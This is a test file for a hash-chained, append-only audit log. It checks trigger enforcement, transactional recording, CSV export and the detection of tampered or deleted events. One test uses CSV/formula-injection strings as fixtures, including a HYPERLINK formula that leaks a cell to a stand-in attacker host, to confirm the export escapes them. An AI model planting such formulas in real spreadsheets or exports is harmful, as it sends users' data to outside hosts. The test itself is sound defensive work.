import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse as parseCsv } from 'csv-parse/sync';
import { sql } from 'kysely';
import {
  exportAuditEvents,
  hashAuditEvent,
  listAuditEvents,
  recordAuditEvent,
  verifyAuditChain,
} from '../src/core/audit.ts';
import type { Database } from '../src/core/db.ts';
import { createTestDatabase, testDatabaseKind } from './support/database.ts';

const CONTEXT = { actor: 'user:test', requestId: 'req-1', ip: '203.0.113.7' };

async function append(database: Database, entityId: string, changes?: unknown) {
  return database.db
    .transaction()
    .execute((trx) =>
      recordAuditEvent(trx, CONTEXT, { action: 'thing.changed', entityType: 'thing', entityId, changes }),
    );
}

/** Tampering needs the append-only trigger out of the way, as an attacker with table-owner rights would do. */
async function tamper(database: Database, statement: ReturnType<typeof sql>) {
  await database.db.transaction().execute(async (trx) => {
    await sql`ALTER TABLE audit_events DISABLE TRIGGER audit_events_append_only`.execute(trx);
    await statement.execute(trx);
    await sql`ALTER TABLE audit_events ENABLE TRIGGER audit_events_append_only`.execute(trx);
  });
}

describe(`the audit trail (${testDatabaseKind})`, () => {
  let database: Database;
  before(async () => {
    database = await createTestDatabase();
  });
  after(async () => {
    await database.close();
  });

  it('chains events: each links to the hash of the one before', async () => {
    const first = await append(database, 'a', { name: ['Cũ', 'Mới'] });
    const second = await append(database, 'b');
    assert.equal(first.seq, 1);
    assert.equal(second.seq, 2);
    assert.equal(second.prev_hash, first.hash);
    assert.match(first.hash, /^[0-9a-f]{64}$/);
    assert.deepEqual(await verifyAuditChain(database.db), { ok: true, events: 2, lastHash: second.hash });
  });

  it('stores who, when, from where and what changed', async () => {
    const [event] = await listAuditEvents(database.db, { entityType: 'thing', entityId: 'a' });
    assert.equal(event?.actor, 'user:test');
    assert.equal(event?.ip, '203.0.113.7');
    assert.equal(event?.request_id, 'req-1');
    assert.deepEqual(event?.changes, { name: ['Cũ', 'Mới'] });
    assert.ok(Math.abs(Date.parse(event?.occurred_at ?? '') - Date.now()) < 60_000);
  });

  it('refuses UPDATE, DELETE and TRUNCATE of events, and any rewinding of the chain head', async () => {
    await assert.rejects(sql`UPDATE audit_events SET actor = 'someone else'`.execute(database.db), /append-only/);
    await assert.rejects(sql`DELETE FROM audit_events WHERE seq = 1`.execute(database.db), /append-only/);
    await assert.rejects(sql`TRUNCATE audit_events`.execute(database.db), /append-only/);
    await assert.rejects(sql`UPDATE audit_chain_head SET last_seq = 1`.execute(database.db), /only advance/);
    await assert.rejects(sql`DELETE FROM audit_chain_head`.execute(database.db), /not allowed/);
    assert.equal((await verifyAuditChain(database.db)).ok, true);
  });

  it('refuses to record outside a transaction, where the record could outlive a rolled-back write', async () => {
    await assert.rejects(
      recordAuditEvent(database.db, CONTEXT, { action: 'x', entityType: 'thing', entityId: 'c' }),
      /inside the transaction/,
    );
  });

  it('rolls the event back with the write it records', async () => {
    await assert.rejects(
      database.db.transaction().execute(async (trx) => {
        await recordAuditEvent(trx, CONTEXT, { action: 'thing.changed', entityType: 'thing', entityId: 'rolled-back' });
        throw new Error('the write failed');
      }),
      /the write failed/,
    );
    assert.deepEqual(await listAuditEvents(database.db, { entityType: 'thing', entityId: 'rolled-back' }), []);
    assert.equal((await verifyAuditChain(database.db)).ok, true);
  });

  it('keeps one chain when many transactions append at once', async () => {
    const before = await verifyAuditChain(database.db);
    assert.ok(before.ok);
    await Promise.all(Array.from({ length: 25 }, (_, index) => append(database, `concurrent-${index}`)));
    const report = await verifyAuditChain(database.db);
    assert.deepEqual(report.ok && report.events, before.events + 25);
  });

  it('exports the events of one record as CSV, oldest first', async () => {
    await append(database, 'a', { second: true });
    let csv = '';
    const count = await exportAuditEvents(database.db, { entityType: 'thing', entityId: 'a' }, (chunk) => {
      csv += chunk;
    });
    const lines = csv.trim().split('\n');
    assert.equal(count, 2);
    assert.equal(lines[0], 'seq,occurred_at,actor,ip,request_id,action,entity_type,entity_id,changes,prev_hash,hash');
    assert.match(
      lines[1] ?? '',
      /^1,.*,user:test,203\.0\.113\.7,req-1,thing\.changed,thing,a,"\{""name"":\[""Cũ"",""Mới""\]\}"/,
    );
    assert.match(lines[2] ?? '', /"\{""second"":true\}"/);
  });

  it('exports text a spreadsheet would run as a formula as plain text', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\rCR'];
    for (const entityId of hostile) await append(database, entityId);
    let csv = '';
    for (const entityId of hostile) {
      await exportAuditEvents(database.db, { entityType: 'thing', entityId }, (chunk) => {
        csv += chunk;
      });
    }
    const rows = parseCsv(csv, { relax_column_count: true }) as string[][];
    const entityIds = rows.filter((row) => row[0] !== 'seq').map((row) => row[7]);
    assert.deepEqual(
      entityIds,
      hostile.map((text) => `'${text}`),
    );
  });

  it('names an event whose content was altered', async () => {
    await tamper(database, sql`UPDATE audit_events SET actor = 'user:someone-else' WHERE seq = 2`);
    const report = await verifyAuditChain(database.db);
    assert.equal(report.ok, false);
    assert.ok(!report.ok);
    assert.equal(report.eventId, 2);
    assert.equal(report.problem, 'altered');
    assert.equal(report.events, 1);
    await tamper(database, sql`UPDATE audit_events SET actor = 'user:test' WHERE seq = 2`);
    assert.equal((await verifyAuditChain(database.db)).ok, true);
  });

  it('names an event altered and given a new hash that matches its new content', async () => {
    const events = await listAuditEvents(database.db, {}, { limit: 1, beforeSeq: 4 });
    const original = events[0];
    assert.ok(original);
    const forged = { ...original, entity_id: 'forged' };
    const forgedHash = hashAuditEvent(original.prev_hash, forged);
    await tamper(database, sql`UPDATE audit_events SET entity_id = 'forged', hash = ${forgedHash} WHERE seq = 3`);
    const report = await verifyAuditChain(database.db);
    assert.ok(!report.ok);
    assert.equal(report.eventId, 3);
    assert.equal(report.problem, 'altered');
    await tamper(
      database,
      sql`UPDATE audit_events SET entity_id = ${original.entity_id}, hash = ${original.hash} WHERE seq = 3`,
    );
    assert.equal((await verifyAuditChain(database.db)).ok, true);
  });

  it('names an event removed from the middle of the chain', async () => {
    await tamper(database, sql`DELETE FROM audit_events WHERE seq = 4`);
    const report = await verifyAuditChain(database.db);
    assert.ok(!report.ok);
    assert.equal(report.eventId, 4);
    assert.equal(report.problem, 'removed');
    assert.match(report.message, /event 4 was removed/);
  });

  it('names the last event when it was removed, from the chain head', async () => {
    const fresh = await createTestDatabase();
    try {
      await append(fresh, 'x');
      await append(fresh, 'y');
      await tamper(fresh, sql`DELETE FROM audit_events WHERE seq = 2`);
      const report = await verifyAuditChain(fresh.db);
      assert.ok(!report.ok);
      assert.equal(report.eventId, 2);
      assert.equal(report.problem, 'removed');
    } finally {
      await fresh.close();
    }
  });
});
